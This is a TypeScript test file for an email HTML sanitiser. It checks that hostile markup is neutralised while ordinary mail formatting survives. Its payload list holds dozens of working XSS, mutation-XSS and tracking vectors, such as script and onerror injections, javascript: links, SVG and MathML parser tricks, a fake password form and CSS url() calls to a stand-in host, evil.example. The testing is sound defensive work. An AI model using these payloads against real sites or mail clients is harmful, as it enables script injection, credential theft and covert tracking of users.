import { load } from "cheerio";
import { describe, expect, test } from "vitest";
import type { InlineImage } from "@/lib/mail/parse/mime";
import { sanitise } from "@/lib/mail/parse/sanitise";

const png: InlineImage = { contentType: "image/png", bytes: Buffer.from("iVBORw0KGgo=", "base64") };
const images = new Map([["logo@x", png]]);

/** Each begins and ends with text that has to stay. */
const hostile = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<img src=//evil.example/pixel.gif>",
  "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
  "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
  "<img src='data:text/html,<script>alert(1)</script>'>",
  "<img src='cid:missing@x'>",
  "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
  "<picture><source srcset=https://evil.example/x><img src=x></picture>",
  "<svg onload=alert(1)><circle r=1 /></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
  "<svg><set attributeName=onmouseover to=alert(1) by=alert(1)></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></table></mtext></math>",
  "<math><mi xlink:href='data:x,<script>alert(1)</script>'></mi></math>",
  "<math href=javascript:alert(1)>click</math>",
  "<style>@import url(https://evil.example/a.css);</style>",
  "<style>body{background:url(https://evil.example/a.png)}</style>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<link rel=prefetch href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  "<base href=https://evil.example/>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:x'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='//evil.example/'>x</a>",
  "<a href='/settings/users' ping='https://evil.example/'>x</a>",
  "<a href='https://evil.example/' onclick=alert(1) download target=_top>x</a>",
  "<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
  "<input type=image src=https://evil.example/x.png>",
  "<textarea></textarea><script>alert(1)</script>",
  "<select><option><style></option></select><script>alert(1)</script></style></select>",
  "<iframe src=https://evil.example/></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=https://evil.example/x.swf>",
  "<applet code=x></applet>",
  "<frameset onload=alert(1)><frame src=https://evil.example/></frameset>",
  "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4 autoplay></video>",
  "<audio src=https://evil.example/x.mp3 onerror=alert(1)></audio>",
  "<table background=https://evil.example/x.png><tr><td background='https://evil.example/y.png'>x</td></tr></table>",
  "<body background=https://evil.example/x.png onload=alert(1)>",
  "<div style='background:url(https://evil.example/x.png)'>x</div>",
  "<div style='background-image:url(https://evil.example/x.png)'>x</div>",
  "<div style='background:u\\72l(https://evil.example/x.png)'>x</div>",
  "<div style='list-style:url(https://evil.example/x.png);content:url(https://evil.example/x)'>x</div>",
  "<div style='border-image:url(https://evil.example/x.png);cursor:url(https://evil.example/x),auto'>x</div>",
  "<div style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
  "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
  "<div style='margin-left:-9999px;transform:scale(9);filter:blur(9px)'>x</div>",
  "<div style='color:red;--x:url(https://evil.example/)'>x</div>",
  "<div style='font-family:\"x;}</style><script>alert(1)</script>'>x</div>",
  "<div id=submit name=attributes class=modal>x</div>",
  "<form id=x></form><img name=getElementById>",
  "<p onmouseover=alert(1) ONCLICK=alert(1) autofocus tabindex=1 contenteditable accesskey=x>x</p>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<plaintext-x><script>alert(1)</script></plaintext-x>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<a href='https://evil.example/\" onmouseover=alert(1) x=\"'>x</a>",
  "<img alt='\"><script>alert(1)</script>' src='cid:logo@x'>",
  "<td colspan=99999999 rowspan=99999999 width=99999999>x</td>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<dialog open><script>alert(1)</script></dialog>",
  "<details ontoggle=alert(1) open>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<p><img src=`x` onerror=alert(1)></p>",
  '<img src="x` `<script>alert(1)</script>"` `>',
];

const allowedAttributes =
  /^(?:style|href|rel|target|title|src|alt|align|valign|width|height|bgcolor|border|cellpadding|cellspacing|colspan|rowspan|nowrap|dir|lang|color|face|size|start|type|span)$/;
const forbiddenTags =
  "script,style,link,meta,base,svg,math,form,input,button,textarea,select,option,iframe,object,embed,applet,frame,frameset,video,audio,source,picture,template,noscript,xmp,dialog,details,marquee";

/** Everything that a browser (parse5 builds its tree) could act on in the body of the document, in words; empty when it is harmless. */
function activeParts(html: string): string[] {
  const body = html.slice(html.indexOf("<body>"));
  const $ = load(body);
  const found = $(forbiddenTags)
    .toArray()
    .map((element) => ("tagName" in element ? `<${element.tagName}>` : "?"));
  for (const element of $("body *").toArray()) {
    if (!("attribs" in element)) continue;
    for (const [name, value] of Object.entries(element.attribs)) {
      if (!allowedAttributes.test(name)) found.push(`${element.tagName} ${name}`);
      if (name === "src" && !/^data:image\/(?:png|gif|jpeg|webp);base64,/.test(value)) found.push(`src ${value}`);
      if (name === "href" && !/^(?:https?:\/\/|mailto:)/.test(value)) found.push(`href ${value}`);
      if (
        name === "style" &&
        /url|expression|position|behavior|binding|transform|--|@import|\\|[({<>]/i.test(
          value.replace(/rgba?\([\d\s.,%]+\)/g, ""),
        )
      ) {
        found.push(`style ${value}`);
      }
      if (/^(?:colspan|rowspan|width|height)$/.test(name) && /\d{5}/.test(value)) found.push(`${name} ${value}`);
    }
  }
  return found;
}

describe("a hostile mail", () => {
  test.each(hostile)("keeps its words and loses what is active: %s", (fragment) => {
    const html = sanitise(`<p>before</p>${fragment}`, images) ?? "";
    expect(activeParts(html)).toEqual([]);
    expect(html).toContain("before");
  });

  test("after being read by a browser and written again, nothing active appears", () => {
    const once = sanitise(hostile.join("\n"), images) ?? "";
    expect(activeParts(once)).toEqual([]);
    expect(sanitise(once.slice(once.indexOf("<body>") + 6, once.lastIndexOf("</body>")), images)).toBe(once);
  });

  test("the check itself notices what must not be there", () => {
    expect(
      activeParts("<body><script>1</script><a href=javascript:x>x</a><p onclick=x style='background:url(x)'>"),
    ).toHaveLength(4);
  });
});

describe("an ordinary mail", () => {
  test("keeps its looks", () => {
    const html = sanitise(
      "<table border=1 cellpadding=3><tr><td style='background-color: #00B050; color: White; width: 80%'><b>Success</b></td></tr></table>",
      images,
    );
    expect(html).toContain('<table border="1" cellpadding="3">');
    expect(html).toContain("background-color:#00B050");
    expect(html).toContain("width:80%");
  });

  test("is a whole document with a policy of its own", () => {
    const html = sanitise("<p>x</p>", images) ?? "";
    expect(html.startsWith("<!doctype html>")).toBe(true);
    expect(html).toContain('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:;');
  });

  test("opens links in a tab of their own, which learns nothing, and names the host", () => {
    expect(sanitise("<a href='https://help.example/x?y=1&z=2'>help</a>", images)).toContain(
      '<a href="https://help.example/x?y=1&amp;z=2" rel="noopener noreferrer nofollow" target="_blank" title="help.example">help</a>',
    );
  });

  test("shows the pictures that it brings, and the words of those that it does not", () => {
    expect(sanitise("<img src='cid:logo@x' alt=Logo width=20>", images)).toContain(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Logo" width="20" />',
    );
    expect(sanitise("<img src='https://x.example/a.png' alt='Our logo'><p>after</p>", images)).toContain(
      "<span>Our logo</span><p>after</p>",
    );
  });

  test("pictures together stay below a cap", () => {
    const big: InlineImage = { contentType: "image/png", bytes: Buffer.alloc(400_000) };
    const html = sanitise("<img src='cid:big'>".repeat(500), new Map([["big", big]])) ?? "";
    expect(html.length).toBeLessThan(2_100_000);
  });

  test("without HTML, or nested beyond sense, is not shown as HTML", () => {
    expect(sanitise(" ", images)).toBeNull();
    expect(sanitise("<div>".repeat(1000), images)).toBeNull();
  });
});
